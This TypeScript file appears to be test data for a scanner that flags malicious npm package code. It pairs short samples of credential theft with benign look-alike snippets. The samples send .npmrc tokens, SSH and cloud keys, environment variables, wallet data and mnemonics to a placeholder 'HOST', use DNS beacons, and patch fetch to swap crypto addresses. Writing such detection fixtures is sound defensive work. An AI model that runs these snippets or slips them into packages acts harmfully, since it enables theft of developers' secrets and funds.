/** What is taken and sent, and what is patched to take it. */
import type { Mechanism } from '../mechanism.ts';

const block = { load: 'block', install: 'block', bin: 'block', call: 'review' } as const;

export const taken: readonly Mechanism[] = [
  {
    id: 'npmrc-read',
    rule: 'credentials-read',
    demands: { load: 'review', install: 'block' },
    code: `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst found = /_authToken=(.+)/.exec(text);`,
    twins: [
      {
        about: 'an editor configuration, when called',
        at: ['call'],
        parameters: 'folder',
        code: `const fs = require('fs');\nconst path = require('path');\nreturn fs.readFileSync(path.join(folder, '.editorconfig'), 'utf8');`,
      },
      {
        about: 'its own package.json',
        at: ['load', 'call'],
        code: `const fs = require('fs');\nconst path = require('path');\nlet version = '';\ntry { version = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8')).version; } catch {}`,
      },
    ],
  },
  {
    id: 'npmrc-sent',
    rule: 'credentials-read',
    demands: block,
    code: `const fs = require('fs');\nconst os = require('os');\nconst text = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://HOST/collect', { method: 'POST', body: text });`,
    twins: [
      {
        about: 'a report that the caller sends',
        at: ['call'],
        parameters: 'url, report',
        code: `return fetch(url, { method: 'POST', body: JSON.stringify(report) });`,
      },
    ],
  },
  {
    id: 'keys-sent',
    rule: 'credentials-read',
    demands: block,
    code: `const fs = require('fs');
const https = require('https');
const files = ['.ssh/id_rsa', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.kube/config'];
const out = {};
for (const file of files) { const full = (process.env.HOME || process.env.USERPROFILE) + '/' + file; if (fs.existsSync(full)) out[file] = fs.readFileSync(full, 'utf8'); }
const request = https.request({ host: 'HOST', path: '/k', method: 'POST' });
request.end(JSON.stringify(out));`,
    twins: [
      {
        about: 'files that the caller names',
        at: ['call'],
        parameters: 'files',
        code: `const fs = require('fs');\nconst out = {};\nfor (const file of files) { if (fs.existsSync(file)) out[file] = fs.readFileSync(file, 'utf8'); }\nreturn out;`,
      },
    ],
  },
  {
    id: 'environment-sent',
    rule: 'credentials-read',
    demands: block,
    code: `const https = require('https');\nconst request = https.request({ hostname: 'HOST', path: '/e', method: 'POST' }, () => {});\nrequest.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));\nrequest.end();`,
    twins: [
      {
        about: 'a switch in the environment',
        at: ['load', 'call'],
        code: `const isProduction = process.env.NODE_ENV === 'production';\nconst wantsColor = !process.env.NO_COLOR && !process.env.CI;`,
      },
      {
        about: 'the environment handed to a program, when called',
        at: ['call'],
        parameters: 'command',
        code: `const child = require('child_process');\nreturn child.spawn(command, { env: { ...process.env, FORCE_COLOR: '1' } });`,
      },
    ],
  },
  {
    id: 'token-variable-sent',
    rule: 'credentials-read',
    demands: block,
    code: `const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;\nif (token) { fetch('https://HOST/t?v=' + encodeURIComponent(token)).catch(() => {}); }`,
    twins: [
      {
        about: 'a token for the service it belongs to, when called',
        at: ['call'],
        parameters: 'url',
        code: `const token = process.env.SAMPLE_TOKEN;\nreturn fetch(url, { headers: token ? { authorization: 'Bearer ' + token } : {} });`,
      },
    ],
  },
  {
    id: 'metadata-asked',
    rule: 'credentials-read',
    demands: { load: 'review', install: 'block' },
    code: `const http = require('http');\nhttp.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', (answer) => { answer.resume(); });`,
    twins: [
      {
        about: 'a local address, when called',
        at: ['call'],
        parameters: 'port',
        code: `const http = require('http');\nreturn http.get('http://127.0.0.1:' + port + '/health');`,
      },
    ],
  },
  {
    id: 'wallets-read',
    rule: 'credentials-read',
    demands: block,
    code: `const fs = require('fs');
const os = require('os');
const path = require('path');
const profile = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Local Extension Settings');
for (const name of fs.readdirSync(profile)) fetch('https://HOST/w/' + name, { method: 'PUT', body: fs.readFileSync(path.join(profile, name)) });`,
    twins: [
      {
        about: 'a cache folder of its own, when called',
        at: ['call'],
        code: `const os = require('os');\nconst path = require('path');\nreturn path.join(os.homedir(), '.cache', 'sample');`,
      },
    ],
  },
  {
    id: 'beacon-at-load',
    rule: 'network-added',
    demands: { load: 'review', install: 'block' },
    code: `const https = require('https');\nconst os = require('os');\nhttps.get('https://HOST/ping?host=' + os.hostname() + '&user=' + os.userInfo().username);`,
    twins: [
      {
        about: 'an address in a constant',
        at: ['load', 'call'],
        code: `const homepage = 'https://HOST/docs';\nconst help = 'See ' + homepage + ' for more.';`,
      },
      {
        about: 'an address in a message of an error',
        at: ['call'],
        parameters: 'value',
        code: `if (value === undefined) throw new Error('A value is needed, see https://HOST/errors#12');`,
      },
    ],
  },
  {
    id: 'bare-address-at-load',
    rule: 'network-added',
    demands: { load: 'block', install: 'block', call: 'review' },
    code: `const http = require('http');\nhttp.get('http://192.0.2.66:1337/p').on('error', () => {});`,
    twins: [
      {
        about: 'a client for the address the caller gives',
        at: ['call'],
        parameters: 'options',
        code: `const http = require('http');\nreturn http.request({ host: options.host, port: options.port, path: '/' });`,
      },
    ],
  },
  {
    id: 'names-looked-up',
    rule: 'network-added',
    demands: { load: 'review', install: 'block' },
    code: `const dns = require('dns');\nconst os = require('os');\ndns.lookup(Buffer.from(os.hostname()).toString('hex') + '.HOST', () => {});`,
    twins: [
      {
        about: 'a host looked up for the caller',
        at: ['call'],
        parameters: 'host',
        code: `const dns = require('dns');\nreturn dns.promises.lookup(host);`,
      },
    ],
  },
  {
    id: 'key-sent-when-called',
    rule: 'secret-sent',
    demands: { call: 'block' },
    parameters: 'secretKey, message',
    code: `const headers = { 'x-session': Buffer.from(secretKey).toString('base64') };\nfetch('https://HOST/api/v1', { headers }).catch(() => {});\nreturn message;`,
    twins: [
      {
        about: 'a signature made with the key',
        at: ['call'],
        parameters: 'secretKey, message',
        code: `const crypto = require('crypto');\nreturn crypto.createHmac('sha256', secretKey).update(message).digest('hex');`,
      },
      {
        about: 'a request to the service that the caller names',
        at: ['call'],
        parameters: 'url, token',
        code: `return fetch(url, { headers: { authorization: 'Bearer ' + token } });`,
      },
    ],
  },
  {
    id: 'mnemonic-sent-when-called',
    rule: 'secret-sent',
    demands: { call: 'block' },
    parameters: 'mnemonic',
    code: `const https = require('https');\nconst request = https.request({ host: 'HOST', path: '/validate', method: 'POST' });\nrequest.end(JSON.stringify({ words: mnemonic }));\nreturn mnemonic.split(' ').length % 3 === 0;`,
    twins: [
      {
        about: 'words that are counted',
        at: ['call'],
        parameters: 'mnemonic',
        code: `const words = mnemonic.trim().split(/\\s+/);\nreturn words.length % 3 === 0;`,
      },
    ],
  },
  {
    id: 'fetch-patched',
    rule: 'globals-patched',
    demands: { load: 'review' },
    code: `const original = globalThis.fetch;\nglobalThis.fetch = async function (...parameters) { const answer = await original.apply(this, parameters); return answer; };`,
    twins: [
      {
        about: 'a polyfill that is guarded',
        at: ['load'],
        code: `if (typeof globalThis.queueMicrotask !== 'function') { globalThis.queueMicrotask = (task) => Promise.resolve().then(task); }`,
      },
      {
        about: 'a prototype of its own',
        at: ['load', 'call'],
        code: `function Reader() {}\nReader.prototype.read = function () { return 1; };\nconst reader = new Reader();`,
      },
    ],
  },
  {
    id: 'module-load-patched',
    rule: 'globals-patched',
    demands: { load: 'review', install: 'review' },
    code: `const Module = require('module');\nconst load = Module._load;\nModule._load = function (name, parent, isMain) { const loaded = load.apply(this, arguments); return loaded; };`,
    twins: [
      {
        about: 'a look at what is loaded, when called',
        at: ['call'],
        code: `const Module = require('module');\nreturn Module.builtinModules.filter((name) => !name.startsWith('_'));`,
      },
    ],
  },
  {
    id: 'addresses-exchanged',
    rule: 'globals-patched',
    demands: { load: 'block' },
    code: `const ours = ['0x00000000000000000000000000000000000000f1', '0x00000000000000000000000000000000000000f2', 'bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqfar'];
const shape = /\\b(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g;
if (typeof window !== 'undefined') {
  const original = window.fetch;
  window.fetch = async function (...parameters) {
    const answer = await original.apply(this, parameters);
    const text = (await answer.clone().text()).replace(shape, ours[0]);
    return new Response(text, answer);
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { return send.call(this, typeof body === 'string' ? body.replace(shape, ours[1]) : body); };
}`,
    twins: [
      {
        about: 'an address that is checked',
        at: ['call'],
        parameters: 'text',
        code: `return /^0x[a-fA-F0-9]{40}$/.test(text);`,
      },
    ],
  },
  {
    id: 'console-silenced',
    rule: 'globals-patched',
    demands: { load: 'review', install: 'review' },
    code: `console.log = () => {};\nconsole.error = () => {};\nconsole.warn = () => {};`,
    twins: [
      {
        about: 'a logger of its own',
        at: ['load', 'call'],
        code: `const log = { info() {}, error: (text) => console.error(text) };\nlog.info('ready');`,
      },
    ],
  },
];
